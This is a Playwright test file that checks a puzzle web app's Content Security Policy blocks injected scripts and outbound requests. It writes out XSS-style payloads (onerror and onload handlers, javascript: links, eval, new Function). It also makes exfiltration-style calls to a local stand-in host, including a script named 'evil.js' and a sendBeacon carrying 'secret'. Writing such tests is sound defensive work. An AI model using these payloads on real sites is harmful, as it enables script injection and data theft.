/** What the page's security policy is for: a script that got in does not run, and what it would send does not leave. */
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { test as base, expect, type Page, type Worker as PageWorker } from '@playwright/test';
import { Site } from './support/site.ts';

/** Somebody else's host, which counts what it is asked. */
const test = base.extend<{ stranger: { readonly url: string; readonly asked: string[] } }>({
  stranger: async ({ browserName: _ }, use) => {
    const asked: string[] = [];
    const server = createServer((request, response) => {
      asked.push(request.url ?? '');
      const headers = { 'Access-Control-Allow-Origin': '*', 'Cross-Origin-Resource-Policy': 'cross-origin' };
      if (request.url?.endsWith('.js'))
        response.writeHead(200, { ...headers, 'Content-Type': 'text/javascript' }).end('self.ran = "a file";');
      else response.writeHead(200, headers).end('1..4..1..1..4..1\n');
    });
    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
    await use({ url: `http://127.0.0.1:${(server.address() as AddressInfo).port}/`, asked });
    server.close();
    server.closeAllConnections();
  },
});

declare global {
  interface Window {
    ran?: string;
    blocked: string[];
  }
}

/** Everything by which text becomes a script, and by which a script reaches another host. */
async function attack(page: Page, stranger: string): Promise<void> {
  await page.evaluate(async (host) => {
    window.blocked = [];
    // What tests run at once may evaluate text; what runs later is held to the policy.
    await new Promise((resolve) => setTimeout(resolve, 0));
    document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) => window.blocked.push(effectiveDirective));
    const add = (html: string): void => {
      const element = document.createElement('div');
      element.innerHTML = html;
      document.body.append(element);
    };
    const script = (with_: Partial<HTMLScriptElement>): void =>
      document.head.append(Object.assign(document.createElement('script'), with_));
    const tried = async (work: () => unknown): Promise<void> => {
      try {
        await work();
      } catch {}
    };
    // Text that would become a script.
    script({ textContent: 'self.ran = "inline";' });
    add('<img src="data:," onerror="self.ran = \'a handler\'"><svg onload="self.ran = \'svg\'"></svg>');
    add('<a id="trap" href="javascript:self.ran = \'a link\'">trap</a>');
    document.getElementById('trap')?.click();
    await tried(() => setTimeout('self.ran = "a timer"', 0));
    // biome-ignore lint/security/noGlobalEval: what must not work is tried
    await tried(() => globalThis.eval('self.ran = "eval"'));
    await tried(() => new Function('self.ran = "a function"')());
    await tried(() => new Worker(URL.createObjectURL(new Blob([`fetch(${JSON.stringify(`${host}blob`)})`]))));
    await tried(() => import(/* @vite-ignore */ `${host}module.js`));
    // Another host's script, and what would carry something there.
    script({ src: `${host}evil.js` });
    await tried(() => fetch(`${host}fetch`));
    await tried(() => navigator.sendBeacon(`${host}beacon`, 'secret'));
    await tried(() => new EventSource(`${host}events`));
    await tried(() => new WebSocket(`${host.replace('http', 'ws')}socket`));
    add(`<img src="${host}picture"><iframe src="${host}frame"></iframe><link rel="stylesheet" href="${host}style">`);
    add(`<video src="${host}video"></video><object data="${host}object"></object><p style="background: url(${host}background)">p</p>`);
  }, stranger);
}

/** What the browser has stopped. */
const blocked = (page: Page): Promise<string[]> => page.evaluate(() => window.blocked);

const STOPPED = ['script-src-elem', 'script-src-attr', 'script-src', 'worker-src', 'connect-src', 'img-src', 'frame-src', 'style-src-elem'];

const HOSTS = [
  ['with headers', undefined],
  ['that can be told nothing', 'a/folder/of/it/'],
] as const;

for (const [host, path] of HOSTS) {
  test(`on a host ${host}, an injected script does not run and nothing leaves`, async ({ page, baseURL, stranger }) => {
    const site = path === undefined ? undefined : new Site(path);
    await site?.up();
    const at = site?.url ?? baseURL;
    await page.goto(`${at}#/data`);
    await expect(page.getByRole('heading', { name: 'Data', exact: true })).toBeVisible();
    await attack(page, stranger.url);
    for (const directive of STOPPED) await expect.poll(() => blocked(page), directive).toContain(directive);
    expect(await page.evaluate(() => window.ran)).toBeUndefined();
    expect(stranger.asked).toEqual([]);
    expect(page.url()).toBe(`${at}#/data`);

    // The one request that may go out: a file that the visitor asks for, by its address, and by the worker that reads it.
    await page.getByText('From an address').click();
    await page.getByRole('textbox', { name: 'Address of a file' }).fill(`${stranger.url}puzzles.txt`);
    await page.getByRole('button', { name: 'Read', exact: true }).last().click();
    await expect.poll(() => stranger.asked).toEqual(['/puzzles.txt']);
    site?.remove();
  });
}

test('a form that got in is not sent', async ({ page, stranger }) => {
  await page.goto('/#/data');
  const said = page.waitForEvent('console', (message) => message.text().includes('form-action'));
  // Not waited for: the driver would wait for the page that the form asks for.
  await page.evaluate((host) => {
    const form = Object.assign(document.createElement('form'), { action: `${host}form` });
    document.body.append(form);
    setTimeout(() => form.submit(), 0);
  }, stranger.url);
  await said;
  expect(stranger.asked).toEqual([]);
});

test('no worker reaches another host but the one that fetches what the visitor names', async ({ page, stranger }) => {
  await page.goto('/#/data');
  /** @param name that it was started with. */
  const reaches = async (file: string, name: string): Promise<string> => {
    let found: PageWorker | undefined;
    const find = async (): Promise<boolean> => {
      for (const worker of page.workers())
        if (worker.url().includes(`/assets/${file}-`) && (await worker.evaluate(() => self.name)) === name) found = worker;
      return found !== undefined;
    };
    await expect.poll(find).toBe(true);
    return (found as PageWorker).evaluate(
      (url) =>
        fetch(url).then(
          () => 'went',
          () => 'stopped',
        ),
      `${stranger.url}${file}`,
    );
  };
  expect(await reaches('worker', 'train')).toBe('stopped');
  expect(await reaches('library-worker', '')).toBe('went');
  await page.goto('/#/solve');
  expect(await reaches('worker', 'solve')).toBe('stopped');
  expect(stranger.asked).toEqual(['/library-worker']);
});

test('the chosen colours are there before anything is drawn', async ({ page }) => {
  await page.addInitScript(() => localStorage.setItem('hrm-playground.prefs', JSON.stringify({ theme: 'dark' })));
  // Whatever draws the page never comes: what is there now is what is seen first.
  await page.route(/\/assets\/index-[^/]*\.js$/, (route) => route.abort());
  await page.goto('/');
  expect(await page.evaluate(() => document.documentElement.dataset.theme)).toBe('dark');
});
